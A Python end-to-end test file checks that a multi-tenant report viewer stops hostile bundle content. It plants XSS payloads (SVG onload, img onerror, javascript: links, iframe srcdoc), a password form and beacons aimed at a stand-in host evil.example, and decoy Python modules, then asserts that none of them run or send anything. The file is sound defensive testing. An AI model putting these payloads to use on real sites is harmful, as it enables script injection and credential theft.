"""Hostile pages in a real browser: whatever a bundle brings, no script of it runs."""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from kamp_lib.reports.publication import publish
from kamp_lib.tenancy import add_tenant

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.e2e

RUN = "20261121-010203-injection-quality-ab12cd"
EVIL = "window.evil = (window.evil || 0) + 1; parent.evil = 1;"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="{EVIL}">'
    f"<script>{EVIL}</script><foreignObject><img xmlns='http://www.w3.org/1999/xhtml'"
    f" src='x' onerror='{EVIL}'/></foreignObject><style>@import url(/evil.css);</style>"
    f'<a href="javascript:{EVIL}"><rect width="9" height="9"/></a>'
    '<path d="M0 0L9 9" style="background:url(https://evil.example/x)"/></svg>'
)
# Markup that slipped into a page past every template, as a mistake of ours would let it.
SLIPPED = (
    f"<img src=x onerror='{EVIL}'><svg onload='{EVIL}'></svg><script>{EVIL}</script>"
    f'<iframe srcdoc="<script>{EVIL}</script>"></iframe>'
    f"<iframe src='javascript:{EVIL}'></iframe><a id=slip href='javascript:{EVIL}'>x</a>"
    "<form action='https://evil.example'><input name=password><button id=go>x</button>"
    "</form><link rel=stylesheet href='https://evil.example/x.css'>"
    "<img src='https://evil.example/beacon.png'><base href='https://evil.example/'>"
)


@dataclass
class Opened:
    """A page in a browser, everything that it asked for, and what of it was stopped."""

    page: Page
    proof: Path
    html: str
    asked: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)

    @property
    def sent(self) -> list[str]:
        return [url for url in self.asked if url not in self.stopped]


@pytest.fixture(scope="module")
def opened(
    bundles: Callable[..., Path],
    tmp_path_factory: pytest.TempPathFactory,
    page_server: Callable[[Path], Any],
    browser: Browser,
) -> Iterator[Opened]:
    home = tmp_path_factory.mktemp("hostile")
    proof = home / "proof"
    company = add_tenant("hanbit", "한빛정밀(가상)", "Hanbit", home=home)
    run = bundles(company.runs / RUN)
    _poison(run)
    released = publish(company, RUN)
    _slip_in(released / "report.ipynb")
    _plant_modules(released, proof)
    with page_server(home) as server:
        address = f"{server.url}/report/hanbit/{RUN}"
        with urllib.request.urlopen(address, timeout=60) as answer:  # noqa: S310
            html = answer.read().decode()
        page = browser.new_page()
        found = Opened(page, proof, html)
        page.on("request", lambda request: found.asked.append(request.url))
        # what the page's policy stops is never sent
        page.on(
            "requestfailed",
            lambda r: found.stopped.append(r.url) if r.failure == "csp" else None,
        )
        page.goto(address)
        page.wait_for_selector("body.kamp-ready", state="attached", timeout=30_000)
        page.wait_for_selector("#slip", state="attached", timeout=30_000)
        page.wait_for_timeout(1500)
        yield found
        page.close()


def _poison(run: Path) -> None:
    """Everything in a bundle that is shown, made hostile."""
    (run / "first-paint.html").write_text(
        f"<html lang='ko'><meta http-equiv=refresh content='0;url=https://evil.example'>"
        f"<script>{EVIL}</script><img src=x onerror='{EVIL}'>FIRST-PAINT-OF-THE-BUNDLE"
    )
    for figure in (run / "figures").glob("*.svg"):
        figure.write_text(SVG)
    evil = f"</script></iframe><script>{EVIL}</script><img src=x onerror='{EVIL}'>"
    record = json.loads((run / "run.json").read_text(encoding="utf-8"))
    record["tenant_name"] = {"ko": evil, "en": evil}
    record["model"]["name"] = {"ko": evil, "en": evil}
    record["verdict"]["sentence"] = {"ko": evil, "en": evil}
    record["person"] = evil
    (run / "run.json").write_text(json.dumps(record), encoding="utf-8")
    facts = json.loads((run / "page.json").read_text(encoding="utf-8"))
    for cause in facts["causes"]:
        cause["ko"] = cause["sentence_ko"] = evil
    (run / "page.json").write_text(json.dumps(facts), encoding="utf-8")


def _slip_in(report: Path) -> None:
    """A cell that shows markup as it is, which no template of ours does."""
    notebook = json.loads(report.read_text(encoding="utf-8"))
    slip = {
        **notebook["cells"][0],
        "id": "slip",
        "source": "import ipywidgets, time\ntime.sleep(0.5)  # the first view is seen\n"
        f"ipywidgets.HTML({SLIPPED!r})",
    }
    notebook["cells"].insert(1, slip)
    report.write_text(json.dumps(notebook), encoding="utf-8")


def _plant_modules(folder: Path, proof: Path) -> None:
    """Modules where the kernel starts; publishing would leave them out."""
    code = f"open({str(proof)!r}, 'w').close()\nraise ImportError('planted')\n"
    for name in ("ipywidgets.py", "pandas.py", "markupsafe.py"):
        (folder / name).write_text(code)
    (folder / "kamp_lib").mkdir()
    (folder / "kamp_lib" / "__init__.py").write_text(code)


def test_no_script_of_a_bundle_runs(opened: Opened) -> None:
    assert opened.page.evaluate("() => window.evil") is None


def test_a_link_that_is_a_script_does_nothing(opened: Opened) -> None:
    opened.page.evaluate("() => document.querySelector('#slip').click()")
    opened.page.wait_for_timeout(300)
    assert opened.page.evaluate("() => window.evil") is None


def test_a_form_that_slipped_in_sends_nothing_anywhere(opened: Opened) -> None:
    before = opened.page.url
    opened.page.evaluate("() => document.querySelector('#go').click()")
    opened.page.wait_for_timeout(300)
    assert opened.page.url == before


def test_nothing_is_asked_of_another_site(opened: Opened) -> None:
    hosts = {url.split("/")[2] for url in opened.sent if url.startswith("http")}
    assert len(hosts) == 1
    assert not [url for url in opened.sent if "evil" in url]


def test_the_first_view_is_drawn_by_the_server_not_taken_from_the_bundle(
    opened: Opened,
) -> None:
    before, _, state = opened.html.partition('<script id="kamp-state"')
    assert "kamp-first" in before
    assert "FIRST-PAINT-OF-THE-BUNDLE" not in opened.html
    assert "evil.example" not in before
    # what the slipped cell shows is data of the page, and no markup of this document
    data = state.partition(">")[2].partition("</script>")[0]
    assert "evil.example" in data
    assert "<" not in data


def test_every_script_of_the_page_is_ours(opened: Opened) -> None:
    scripts = re.findall(r"<script[^>]*>", opened.html)
    nonce = re.search(r'nonce="([\w-]+)"', opened.html)
    assert nonce is not None
    marked = [s for s in scripts if "nonce" in s]
    assert set(marked) == {f'<script nonce="{nonce[1]}">'}
    rest = [s for s in scripts if "nonce" not in s]
    assert all("application/" in s or 'src="/kamp/scripts/' in s for s in rest)


def test_no_module_beside_the_report_is_loaded(opened: Opened) -> None:
    assert not opened.proof.exists()
